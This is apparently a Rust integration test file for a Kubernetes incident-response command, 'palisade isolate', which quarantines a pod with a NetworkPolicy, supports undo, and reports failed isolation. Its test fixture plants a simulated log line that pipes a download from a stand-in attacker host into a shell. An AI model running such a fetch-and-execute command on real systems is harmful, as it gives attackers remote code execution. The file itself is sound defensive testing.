//! `palisade isolate` against the test API server, through the real kube-rs client, with the
//! real `kubectl` to look at the result.

use std::path::{Path, PathBuf};
use std::process::{Command, Output};

use assert_cmd::cargo::cargo_bin;
use palisade_testserver::TestServer;
use serde_json::{json, Value};

const POD: &str = "web-5d4f8c-x7k2p";

fn server() -> TestServer {
    let fixture =
        Path::new(env!("CARGO_MANIFEST_DIR")).join("../palisade-isolate/tests/fixtures/shop.yaml");
    let server = TestServer::builder().fixture(&fixture).unwrap().start();
    server.set_log(
        "shop",
        POD,
        "web",
        false,
        "curl http://evil.example/x | sh\n",
    );
    server
}

fn kubeconfig(server: &TestServer, dir: &Path) -> PathBuf {
    let path = dir.join("kubeconfig");
    server.write_kubeconfig(&path).unwrap();
    path
}

fn palisade(server: &TestServer, dir: &Path, args: &[&str]) -> Output {
    let kubeconfig = kubeconfig(server, dir);
    Command::new(cargo_bin("palisade"))
        .current_dir(dir)
        .env_remove("KUBECONFIG")
        .env("HOME", dir)
        .env("NO_COLOR", "1")
        .arg("isolate")
        .args(args)
        .arg("--kubeconfig")
        .arg(&kubeconfig)
        .output()
        .unwrap()
}

fn text(output: &Output) -> String {
    format!(
        "{}\n--- stderr ---\n{}",
        String::from_utf8_lossy(&output.stdout),
        String::from_utf8_lossy(&output.stderr)
    )
}

fn kubectl_json(server: &TestServer, dir: &Path, args: &[&str]) -> Option<Value> {
    let kubeconfig = kubeconfig(server, dir);
    let output = Command::new("kubectl")
        .env("HOME", dir)
        .arg("--kubeconfig")
        .arg(&kubeconfig)
        .args(args)
        .args(["-o", "json"])
        .output()
        .ok()?;
    assert!(output.status.success(), "{}", text(&output));
    serde_json::from_slice(&output.stdout).ok()
}

#[test]
fn the_guides_broken_script_scenario_isolated_for_real() {
    let server = server();
    let dir = tempfile::tempdir().unwrap();
    // The guide's script: a policy selecting `app: $pod_name`, which this pod does not have.
    server.apply(json!({
        "apiVersion": "networking.k8s.io/v1", "kind": "NetworkPolicy",
        "metadata": {"name": format!("isolate-{POD}"), "namespace": "shop"},
        "spec": {"podSelector": {"matchLabels": {"app": POD}}, "policyTypes": ["Ingress", "Egress"]},
    }));

    let plan = palisade(
        &server,
        dir.path(),
        &[POD, "-n", "shop", "--incident", "inc-1"],
    );
    let out = text(&plan);
    assert_eq!(plan.status.code(), Some(0), "{out}");
    assert!(out.contains("Nothing was changed"), "{out}");
    assert!(
        out.contains("Policies selecting the pod before: none"),
        "{out}"
    );
    assert!(out.contains("+    palisade.dev/quarantine: inc-1"), "{out}");
    assert!(server.requests().iter().all(|r| r.method == "GET"));

    let evidence = dir.path().join("evidence");
    let applied = palisade(
        &server,
        dir.path(),
        &[
            POD,
            "-n",
            "shop",
            "--incident",
            "inc-1",
            "--apply",
            "--reason",
            "reverse shell",
            "--evidence",
            evidence.to_str().unwrap(),
        ],
    );
    let out = text(&applied);
    assert_eq!(applied.status.code(), Some(0), "{out}");
    assert!(
        out.contains("done: created NetworkPolicy shop/palisade-quarantine-inc-1"),
        "{out}"
    );
    assert!(
        out.contains("Isolated: no peer can reach shop/web-5d4f8c-x7k2p"),
        "{out}"
    );
    assert!(out.contains("Evidence written to"), "{out}");

    // kubectl sees the label, the annotations and the policy.
    let pod = kubectl_json(&server, dir.path(), &["get", "pod", "-n", "shop", POD]).unwrap();
    assert_eq!(
        pod["metadata"]["labels"]["palisade.dev/quarantine"],
        "inc-1"
    );
    assert_eq!(
        pod["metadata"]["annotations"]["palisade.dev/incident-reason"],
        "reverse shell"
    );
    assert_eq!(
        pod["metadata"]["annotations"]["palisade.dev/incident-by"],
        "palisade-test"
    );
    let policy = kubectl_json(
        &server,
        dir.path(),
        &[
            "get",
            "networkpolicy",
            "-n",
            "shop",
            "palisade-quarantine-inc-1",
        ],
    )
    .unwrap();
    assert_eq!(policy["spec"]["policyTypes"], json!(["Ingress", "Egress"]));
    // The guide's policy still selects nothing.
    assert_ne!(pod["metadata"]["labels"]["app"], POD);

    // A second run (the incident is found on the pod) changes nothing.
    let writes = |s: &TestServer| s.requests().iter().filter(|r| r.method != "GET").count();
    let before = writes(&server);
    let again = palisade(&server, dir.path(), &[POD, "-n", "shop", "--apply"]);
    assert_eq!(again.status.code(), Some(0), "{}", text(&again));
    assert!(text(&again).contains("nothing changed"), "{}", text(&again));
    assert_eq!(writes(&server), before);

    let undo = palisade(
        &server,
        dir.path(),
        &["--undo", POD, "-n", "shop", "--incident", "inc-1"],
    );
    let out = text(&undo);
    assert_eq!(undo.status.code(), Some(0), "{out}");
    assert!(
        out.contains("done: deleted NetworkPolicy shop/palisade-quarantine-inc-1"),
        "{out}"
    );
}

#[test]
fn a_refused_create_and_an_allowing_policy_fail_loudly() {
    let server = server();
    server.refuse_create("networkpolicies");
    let dir = tempfile::tempdir().unwrap();
    let evidence = dir.path().join("evidence");
    let refused = palisade(
        &server,
        dir.path(),
        &[
            POD,
            "-n",
            "shop",
            "--incident",
            "inc-2",
            "--apply",
            "--evidence",
            evidence.to_str().unwrap(),
        ],
    );
    let out = text(&refused);
    assert_eq!(refused.status.code(), Some(2), "{out}");
    assert!(
        out.contains("FAILED: create NetworkPolicy shop/palisade-quarantine-inc-2"),
        "{out}"
    );
    assert!(out.contains("is forbidden"), "{out}");
    assert!(out.contains("not done: label and annotate pod"), "{out}");
    assert!(
        out.contains(
            "error: incident inc-2: pod shop/web-5d4f8c-x7k2p is NOT known to be isolated"
        ),
        "{out}"
    );
    assert_eq!(std::fs::read_dir(&evidence).unwrap().count(), 1, "{out}");

    let server = self::server();
    server.apply(json!({
        "apiVersion": "networking.k8s.io/v1", "kind": "NetworkPolicy",
        "metadata": {"name": "allow-all-egress", "namespace": "shop"},
        "spec": {"podSelector": {}, "policyTypes": ["Egress"], "egress": [{}]},
    }));
    let open = palisade(
        &server,
        dir.path(),
        &[POD, "-n", "shop", "--incident", "inc-3", "--apply"],
    );
    let out = text(&open);
    assert_eq!(open.status.code(), Some(1), "{out}");
    assert!(out.contains("NOT ISOLATED"), "{out}");
    assert!(
        out.contains("kept open by NetworkPolicy 'shop/allow-all-egress'"),
        "{out}"
    );
    assert!(
        out.contains("error: incident inc-3: pod shop/web-5d4f8c-x7k2p is NOT isolated"),
        "{out}"
    );
}
